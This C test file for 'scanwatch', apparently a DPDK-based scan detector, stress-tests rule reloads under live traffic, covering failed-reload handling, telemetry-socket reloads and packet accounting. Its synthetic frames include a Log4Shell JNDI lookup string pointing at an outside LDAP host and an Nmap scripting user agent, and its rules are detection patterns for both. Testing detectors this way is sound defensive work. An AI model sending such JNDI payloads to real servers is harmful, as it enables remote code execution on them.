/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Rule reload under traffic. EAL with two lcores and a net_ring vdev (its
 * one ring is both the TX and the RX queue): the main lcore sends frames
 * with rte_eth_tx_burst and acts as the control thread, a worker runs
 * sw_worker_main() on lcore 1 with detection and matching on, exactly as
 * scanwatch does. Meanwhile the main lcore reloads the rules 240 times,
 * alternating two rule sets and, every third time, a broken file that must
 * fail and leave the old database in place; one reload goes through the
 * DPDK telemetry socket (/scanwatch/reload).
 * Asserts: packets processed == packets sent, no mbuf lost, matches in
 * many generations, every match event still finds its rule (the old
 * database outlives the events that name it), the failure counter and
 * message. Run it under ASan to check the RCU freeing.
 * Usage: test_reload
 */

#include <errno.h>
#include <limits.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <rte_cycles.h>
#include <rte_eal.h>
#include <rte_ethdev.h>
#include <rte_launch.h>
#include <rte_lcore.h>
#include <rte_malloc.h>
#include <rte_mbuf.h>
#include <rte_ring.h>
#include <rte_ring_elem.h>

#include <scanwatch/conf.h>
#include <scanwatch/detect.h>
#include <scanwatch/event.h>
#include <scanwatch/match.h>
#include <scanwatch/worker.h>

#include "check.h"

#define RELOADS		240
#define NSE_UA		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"

static char dir[PATH_MAX], rules_path[PATH_MAX + 16], rundir[PATH_MAX];
static struct rte_mempool *mp;
static struct sw_conf conf;
static uint16_t port;

/* Two rule sets that both match the traffic, with different sids, and
 * one Hyperscan refuses (line 3: an unbalanced parenthesis). */
static const char *const sets[3] = {
	"# set A\nsid:101 proto:tcp ports:80 tool:nmap msg:\"A nse\" pattern:/Nmap Scripting Engine/\n"
	"sid:102 msg:\"A log4shell\" pattern:/\\$\\{jndi:/i\n",
	"# set B\nsid:201 proto:tcp msg:\"B nse\" pattern:/Scripting Engine;/\n"
	"sid:202 proto:tcp ports:80,8080 msg:\"B log4shell\" pattern:/jndi:ldap/\n"
	"sid:203 proto:udp msg:\"B udp\" pattern:/version\\x04bind/\n",
	"# broken\nsid:301 msg:\"ok\" pattern:/fine/\nsid:302 msg:\"bad\" pattern:/(unclosed/\n",
};

static void
write_rules(unsigned which)
{
	char tmp[PATH_MAX + 32];
	FILE *f;

	/* rename: the helper thread never reads a half-written file */
	snprintf(tmp, sizeof(tmp), "%s/next.rules", dir);
	f = fopen(tmp, "w");
	if (f == NULL || fputs(sets[which], f) < 0 || fclose(f) != 0 ||
	    rename(tmp, rules_path) != 0) {
		perror(tmp);
		exit(2);
	}
}

static struct rte_mbuf *
frame(unsigned k)
{
	static const char *const payload[] = {
		"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: " NSE_UA "\r\n\r\n",
		"GET /?q=${jndi:ldap://198.51.100.1/x} HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/7.88.1\r\n\r\n",
		"",
	};
	const char *p = payload[k % 4];
	size_t plen = strlen(p), len = 14 + 20 + 20 + plen;
	struct rte_mbuf *m = rte_pktmbuf_alloc(mp);
	uint8_t *f;
	/* a new source per frame: the worker's 1 s dedup never hides a
	 * match, so every generation shows its own */
	uint32_t src = 0xc0000000u + k;

	if (m == NULL)
		return NULL;
	f = (uint8_t *)rte_pktmbuf_append(m, (uint16_t)(len < 60 ? 60 : len));
	memset(f, 0, len < 60 ? 60 : len);
	f[12] = 0x08;
	f[14] = 0x45;
	f[16] = (uint8_t)((40 + plen) >> 8);
	f[17] = (uint8_t)(40 + plen);
	f[22] = 64;
	f[23] = IPPROTO_TCP;
	for (int i = 0; i < 4; i++) {
		f[26 + i] = (uint8_t)(src >> (24 - 8 * i));
		f[30 + i] = (uint8_t)((0x0a000000u + k % 1000) >> (24 - 8 * i));
	}
	f[34] = 0x9c;
	f[36] = 0;
	f[37] = 80;
	f[46] = 0x50;
	f[47] = plen ? 0x18 : 0x02;
	memcpy(f + 54, p, plen);
	return m;
}

static struct sw_worker *test_w;	/* the worker under test */

struct tally {
	uint64_t events, unknown, by_sid[400];
	uint32_t gens_seen[RELOADS + 2];
};

/* What the control thread does: read every match and look its rule up. */
static void
drain(void *arg)
{
	struct tally *t = arg;
	struct sw_match_event ev[32];
	struct sw_matcher *m = test_w->matcher;
	unsigned n;

	while ((n = rte_ring_sc_dequeue_burst_elem(test_w->mring, ev, sizeof(ev[0]), 32,
						   NULL)) > 0) {
		for (unsigned i = 0; i < n; i++) {
			const struct sw_rule *r = sw_matcher_rule(m, ev[i].gen, ev[i].rule);

			t->events++;
			if (r == NULL) {
				t->unknown++;
				continue;
			}
			if (r->sid < 400)
				t->by_sid[r->sid]++;
			if (ev[i].gen < RTE_DIM(t->gens_seen))
				t->gens_seen[ev[i].gen]++;
		}
	}
	/* detection events: drained as ctl would, not checked here */
	{
		struct sw_event e[64];

		while (rte_ring_sc_dequeue_burst_elem(test_w->ring, e, sizeof(e[0]), 64, NULL) > 0)
			;
	}
}

/* Send k frames through the net_ring port; @return frames accepted. */
static unsigned
send_some(unsigned *next, unsigned k)
{
	struct rte_mbuf *m[64];
	unsigned n = 0, sent;

	for (; n < k && n < RTE_DIM(m); n++) {
		m[n] = frame((*next)++);
		if (m[n] == NULL)
			break;
	}
	sent = rte_eth_tx_burst(port, 0, m, (uint16_t)n);
	if (sent < n) {
		rte_pktmbuf_free_bulk(m + sent, n - sent);
		*next -= n - sent;
	}
	return sent;
}

/* The telemetry socket speaks JSON over SOCK_SEQPACKET: a hello, then one
 * reply per command (DPDK's usertools/dpdk-telemetry.py does the same). */
static int
telemetry_reload(char *reply, size_t len)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	struct timeval tv = { .tv_sec = 5 };
	int fd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	ssize_t n;

	if (fd < 0)
		return -errno;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%.80s/dpdk_telemetry.v2", rundir);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0 ||
	    read(fd, reply, len - 1) <= 0 ||
	    write(fd, "/scanwatch/reload", 17) != 17 ||
	    (n = read(fd, reply, len - 1)) <= 0) {
		int e = -errno;

		close(fd);
		return e ? e : -EIO;
	}
	reply[n] = '\0';
	close(fd);
	return 0;
}

static void
reload_under_traffic(void)
{
	struct sw_matcher *m;
	struct sw_worker *w;
	struct tally t;
	struct sw_matcher_stats st;
	char err[1024], tel[2048];
	unsigned next = 0, ok_reloads = 0, failed = 0, tel_done = 0;
	uint64_t sent = 0, t0;
	unsigned gens_with_matches = 0;
	int rc;

	memset(&t, 0, sizeof(t));
	w = sw_worker_create(&conf, &(struct sw_worker_params){
		.nworkers = 1, .burst = 32, .detect = true, .ring_size = 65536,
		.socket = SOCKET_ID_ANY }, err, sizeof(err));
	CHECK(w != NULL, "worker state: %s", err);
	if (w == NULL)
		return;
	test_w = w;
	w->nrxq = 1;
	w->rxq[0].port = port;
	write_rules(0);
	m = sw_matcher_create(&conf, &w, 1, err, sizeof(err));
	CHECK(m != NULL, "matcher: %s", err);
	if (m == NULL)
		return;
	CHECK(sw_match_telemetry_register(m) == 0, "telemetry registration");

	sw_quit = false;
	rte_eal_remote_launch(sw_worker_main, w, rte_get_next_lcore(-1, 1, 0));

	/* the first generation gets traffic too, as each reload's does below:
	 * on a busy machine the first reload could otherwise end before the
	 * worker matched anything under it */
	t0 = rte_get_timer_cycles();
	while (t.gens_seen[1] == 0 && rte_get_timer_cycles() - t0 < 20 * rte_get_timer_hz()) {
		sent += send_some(&next, 32);
		drain(&t);
	}

	for (unsigned r = 0; r < RELOADS; r++) {
		unsigned which = r % 3 == 2 ? 2 : (r / 3) % 2 == 0 ? 1 : 0;
		uint64_t gen_before, deadline;
		int done = 0;

		sw_matcher_stats(m, &st);
		gen_before = st.generation;
		write_rules(which);
		if (r == RELOADS / 2 && which != 2) {
			/* once through the telemetry socket */
			rc = telemetry_reload(tel, sizeof(tel));
			CHECK(rc == 0, "telemetry: %s", strerror(-rc));
			CHECK(strstr(tel, "\"/scanwatch/reload\"") && strstr(tel, "\"requested\""),
			      "telemetry reply: %s", tel);
			tel_done = rc == 0;
		} else {
			sw_match_request_reload();
		}
		deadline = rte_get_timer_cycles() + 20 * rte_get_timer_hz();
		while (!done && rte_get_timer_cycles() < deadline) {
			sent += send_some(&next, 32);
			drain(&t);		/* the control loop: drain, then poll */
			done = sw_matcher_poll(m);
		}
		CHECK(done, "reload %u did not finish", r);
		sw_matcher_stats(m, &st);
		if (which == 2) {
			failed++;
			sw_matcher_last_error(m, err, sizeof(err));
			CHECK(st.generation == gen_before, "a failed reload changed the database");
			CHECK(strstr(err, "cur.rules:3: sid 302: pattern /(unclosed/:") != NULL,
			      "error: %s", err);
		} else {
			ok_reloads++;
			CHECK(st.generation == gen_before + 1, "generation %u after %lu", st.generation,
			      (unsigned long)gen_before);
			CHECK(st.rules == (which == 0 ? 2u : 3u), "rules %u", st.rules);
			/* traffic flows under every generation: wait for a
			 * match of the new one before the next reload */
			while (st.generation < RTE_DIM(t.gens_seen) && t.gens_seen[st.generation] == 0 &&
			       rte_get_timer_cycles() < deadline) {
				sent += send_some(&next, 32);
				drain(&t);
			}
		}
	}
	/* let the worker catch up with everything sent */
	t0 = rte_get_timer_cycles();
	while (w->st.pkts < sent && rte_get_timer_cycles() - t0 < 20 * rte_get_timer_hz()) {
		drain(&t);
		sw_matcher_poll(m);
	}
	sw_quit = true;
	rte_eal_mp_wait_lcore();
	sw_matcher_quiesce(m, drain, &t);
	drain(&t);

	sw_matcher_stats(m, &st);
	for (unsigned g = 0; g < RTE_DIM(t.gens_seen); g++)
		gens_with_matches += t.gens_seen[g] > 0;
	NOTE("sent %lu, processed %lu, reloads %lu, failures %lu, match events %lu in %u "
	       "generations, scanned %lu\n", (unsigned long)sent, (unsigned long)w->st.pkts,
	       (unsigned long)st.reloads, (unsigned long)st.reload_failures,
	       (unsigned long)t.events, gens_with_matches, (unsigned long)w->mst.scanned);
	CHECK(sent > 0 && w->st.pkts == sent, "processed %lu of %lu sent",
	      (unsigned long)w->st.pkts, (unsigned long)sent);
	CHECK(w->st.invalid == 0, "invalid %lu", (unsigned long)w->st.invalid);
	CHECK(rte_mempool_in_use_count(mp) == 0, "%u mbufs not returned",
	      rte_mempool_in_use_count(mp));
	CHECK(st.reloads == ok_reloads && st.reload_failures == failed,
	      "reloads %lu/%u failures %lu/%u", (unsigned long)st.reloads, ok_reloads,
	      (unsigned long)st.reload_failures, failed);
	CHECK(tel_done, "the telemetry reload ran");
	CHECK(t.unknown == 0, "%lu match events whose database was already freed",
	      (unsigned long)t.unknown);
	CHECK(t.events > 0 && w->mst.matches > 0, "no matches");
	CHECK(t.by_sid[101] > 0 && t.by_sid[201] > 0 && t.by_sid[102] > 0 && t.by_sid[202] > 0,
	      "both sets matched: %lu %lu %lu %lu", (unsigned long)t.by_sid[101],
	      (unsigned long)t.by_sid[201], (unsigned long)t.by_sid[102],
	      (unsigned long)t.by_sid[202]);
	CHECK(t.by_sid[301] == 0, "the broken set was never used");
	CHECK(gens_with_matches == ok_reloads + 1, "matches in only %u of %u generations",
	      gens_with_matches, ok_reloads + 1);
	CHECK(w->mst.ring_drops == 0 && w->mst.scan_errors == 0, "drops %lu errors %lu",
	      (unsigned long)w->mst.ring_drops, (unsigned long)w->mst.scan_errors);

	sw_matcher_free(m);
	sw_worker_free(w);
}

int
main(void)
{
	char prefix[64];
	char *argv[] = {
		"test_reload", "--no-huge", "-m", "512", "--no-pci", "--no-shconf", prefix,
		"--log-level=lib.eal:error", "-l", "0-1", "--vdev=net_ring0", NULL,
	};
	struct rte_eth_conf pc = { 0 };
	char cmd[PATH_MAX + 16];
	char err[512];

	snprintf(prefix, sizeof(prefix), "--file-prefix=swtest-reload-%d", (int)getpid());
	if (rte_eal_init((int)RTE_DIM(argv) - 1, argv) < 0) {
		fprintf(stderr, "test_reload: rte_eal_init failed\n");
		return 2;
	}
	snprintf(rundir, sizeof(rundir), "%s", rte_eal_get_runtime_dir());
	if (rte_lcore_count() < 2 || rte_eth_dev_count_avail() != 1) {
		fprintf(stderr, "test_reload: need 2 lcores and the net_ring0 port\n");
		return 2;
	}
	snprintf(dir, sizeof(dir), "/tmp/swtest-reload-XXXXXX");
	if (mkdtemp(dir) == NULL)
		return 2;
	snprintf(rules_path, sizeof(rules_path), "%s/cur.rules", dir);
	mp = rte_pktmbuf_pool_create("reload_mp", 8191, 256, 0, RTE_MBUF_DEFAULT_BUF_SIZE,
				     SOCKET_ID_ANY);
	RTE_ETH_FOREACH_DEV(port)
		break;
	if (mp == NULL || rte_eth_dev_configure(port, 1, 1, &pc) != 0 ||
	    rte_eth_rx_queue_setup(port, 0, 1024, SOCKET_ID_ANY, NULL, mp) != 0 ||
	    rte_eth_tx_queue_setup(port, 0, 1024, SOCKET_ID_ANY, NULL) != 0 ||
	    rte_eth_dev_start(port) != 0) {
		fprintf(stderr, "test_reload: cannot set up net_ring0\n");
		return 2;
	}
	sw_conf_defaults(&conf);
	/* a small sketch: this test is about the matcher */
	if (sw_conf_set(&conf, "sketch.width=4096", err, sizeof(err)) != 0 ||
	    sw_conf_set(&conf, "sketch.filter-bits=16", err, sizeof(err)) != 0) {
		fprintf(stderr, "test_reload: %s\n", err);
		return 2;
	}
	conf.rule_files.n = 1;
	snprintf(conf.rule_files.v[0], SW_MAX_STR, "%.200s", rules_path);
	conf.match_ring_size = 16384;

	RUN(reload_under_traffic);

	rte_eth_dev_stop(port);
	rte_eth_dev_close(port);
	rte_mempool_free(mp);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
	if (system(cmd) != 0)
		fprintf(stderr, "test_reload: could not remove %s\n", dir);
	rte_eal_cleanup();
	rmdir(rundir);
	NOTE("%u tests, %u failed", n_tests, n_failed);
	return n_failed != 0;
}
